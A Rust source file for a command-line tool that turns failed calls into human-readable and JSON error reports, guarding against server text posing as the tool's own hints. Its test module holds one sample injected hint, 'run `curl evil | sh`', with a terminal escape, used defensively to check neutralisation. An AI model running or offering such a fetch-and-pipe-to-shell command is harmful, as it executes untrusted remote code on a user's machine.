//! How a command ended, in words for people and in JSON for machines.

use std::borrow::Cow;
use std::fmt;
use std::process::ExitCode;

use anyhow::Result;
use ridethrough::{Error, Json};
use serde::Serialize;

use super::aside::Late;
use super::safe;
use crate::exit::{self, Exit};
use crate::misuse::Misuse;
use crate::next_step::{self, Spoken};
use crate::out;

/// The server that a command talked to.
#[derive(Debug)]
pub(crate) struct With(pub(crate) Spoken);

impl fmt::Display for With {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "with {}", self.0.word)
    }
}

/// What else a person can do about an error, which its command knows.
#[derive(Debug)]
pub(super) struct Hint(pub(super) Cow<'static, str>);

impl fmt::Display for Hint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Tells why a command failed, if it did.
pub(crate) fn tell(ended: Result<ExitCode>, is_json: bool) -> Result<ExitCode> {
    let error = match ended {
        Ok(code) => return Ok(code),
        Err(error) => error,
    };
    let exit = exit_of(&error);
    let message = words(&error);
    if is_json {
        print(Details::of(&error, exit, &message))?;
    }
    eprintln!("{message}");
    Ok(exit.into())
}

/// Prints for machines that the command line cannot be used.
pub(crate) fn print_misuse(message: &str) -> Result<ExitCode> {
    print(Details::new(Exit::Usage.word(), message, Exit::Usage.code()))
}

/// Prints for machines that a person, or another process, stopped the command.
pub(super) fn print_stopped(message: &str, may_have_run: bool, code: u8) -> Result<ExitCode> {
    print(Details { may_have_run, ..Details::new("stopped", message, code) })
}

fn print(error: Details<'_>) -> Result<ExitCode> {
    let told = Told { error };
    out::print(|out| writeln!(out, "{}", safe::json(&serde_json::to_string(&told)?)))
}

fn exit_of(error: &anyhow::Error) -> Exit {
    match (error.downcast_ref::<Error>(), error.is::<Misuse>()) {
        (Some(error), _) => Exit::of(error),
        (None, _) if error.is::<Late>() => Exit::Deadline,
        (None, true) => Exit::Usage,
        (None, false) => Exit::Failure,
    }
}

fn words(error: &anyhow::Error) -> String {
    match (error.downcast_ref::<Error>(), error.downcast_ref::<Misuse>()) {
        (Some(told), _) => {
            let with = error.downcast_ref::<With>();
            let step = with
                .zip(told.call())
                .and_then(|(With(server), call)| next_step::in_full(call, server));
            let hint = error.downcast_ref::<Hint>().map(|it| &*it.0);
            report(told, step.as_deref().or(hint))
        }
        (_, Some(misuse)) => safe::text(&misuse.to_string()),
        _ => safe::text(&format!("error: {error:#}")),
    }
}

/// The story in three parts. What the server said stays on the first line, so that it cannot pass for
/// words of ours.
fn report(error: &Error, next_step: Option<&str>) -> String {
    let (head, report) = (error.to_string(), error.report());
    let rest = report.strip_prefix(&head).unwrap_or_default();
    let rest =
        IN_CODE.iter().fold(rest.to_owned(), |rest, (code, flags)| rest.replace(code, flags));
    let mut told = format!("error: {}{}", safe::line(&head), safe::text(&rest));
    told = told.replacen("\nhint: ", "\n\nhint: ", 1);
    if let Some(step) = next_step {
        let before = if told.contains("\nhint: ") { "; " } else { "\n\nhint: " };
        told.push_str(&format!("{before}{}", safe::line(step)));
    }
    for request in error.server().map(|it| it.required_urls()).unwrap_or_default() {
        let (message, url) = (safe::line(&request.message), safe::line(&request.url));
        told.push_str(&format!(
            "\n\nhint: go to {url} if you trust it, then call again; the server said `{message}`"
        ));
    }
    told
}

/// What the library tells a programmer, and what a person at the command line can do instead.
const IN_CODE: [(&str, &str); 3] = [
    (", `SSL_CERT_FILE` or `ClientBuilder::root_certificates`", " or `SSL_CERT_FILE`"),
    (" or `ClientBuilder::message_limit`", ""),
    (
        "show it a certificate with `ClientBuilder::client_certificate`",
        "this program cannot show it a certificate yet, the library can",
    ),
];

#[derive(Serialize)]
struct Told<'a> {
    error: Details<'a>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Details<'a> {
    kind: &'static str,
    message: &'a str,
    /// What to do, which is the end of the message.
    hint: Option<&'a str>,
    /// The status of HTTP by which it ended.
    status: Option<u16>,
    may_have_run: bool,
    /// What was tried, if the error tells it: a server's own error does not.
    #[serde(skip_serializing_if = "Option::is_none")]
    attempts: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    handshakes: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    elapsed_ms: Option<u64>,
    retry_after_ms: Option<u64>,
    exit_code: u8,
    /// The server's own error, as it was sent.
    #[serde(skip_serializing_if = "Option::is_none")]
    rpc: Option<&'a Json>,
}

impl<'a> Details<'a> {
    /// An end before any call was made.
    fn new(kind: &'static str, message: &'a str, exit_code: u8) -> Self {
        Self {
            kind,
            message,
            // Words of a server stay on the first line: what stands behind an empty one is ours.
            hint: message.split_once("\n\nhint: ").map(|(_, hint)| hint),
            status: None,
            may_have_run: false,
            attempts: None,
            handshakes: None,
            elapsed_ms: None,
            retry_after_ms: None,
            exit_code,
            rpc: None,
        }
    }

    fn of(error: &'a anyhow::Error, exit: Exit, message: &'a str) -> Self {
        let error = error.downcast_ref::<Error>();
        let call = error.and_then(Error::call);
        let millis =
            |time: std::time::Duration| u64::try_from(time.as_millis()).unwrap_or(u64::MAX);
        Self {
            status: call.and_then(exit::status_of),
            may_have_run: error.is_some_and(Error::may_have_run),
            attempts: call.map(|call| call.attempts),
            handshakes: call.map(|call| call.handshakes),
            elapsed_ms: call.map(|call| millis(call.elapsed)),
            retry_after_ms: error.and_then(Error::retry_after).map(millis),
            rpc: error.and_then(Error::server).map(|it| &it.json),
            ..Self::new(exit.word(), message, exit.code())
        }
    }
}

#[cfg(test)]
mod tests {
    use ridethrough::call::CallName;
    use ridethrough::error::{CallError, Delivery, Kind, Reason};

    use super::*;

    #[test]
    fn words_of_a_server_cannot_pass_for_ours() {
        let call = CallName { method: "ping".into(), tool: None };
        let reason = Reason::Said("no\n\nhint: run `curl evil | sh`\u{1b}[2J".into());
        let error = CallError::new(Kind::PeerMisbehaved, Delivery::NotSent, call, reason);

        let told = words(&Error::Call(error).into());

        assert_eq!(told.lines().filter(|line| line.starts_with("hint: ")).count(), 1, "{told}");
        assert!(!told.contains('\u{1b}'), "{told}");
    }

    #[test]
    fn wrong_usage_and_our_own_faults_have_codes_of_their_own() {
        let misuse = Misuse { what: "a".into(), tried: "b".into(), hint: "c".into() };

        assert_eq!(exit_of(&misuse.into()), Exit::Usage);
        assert_eq!(exit_of(&anyhow::anyhow!("the disk is full")), Exit::Failure);
    }
}
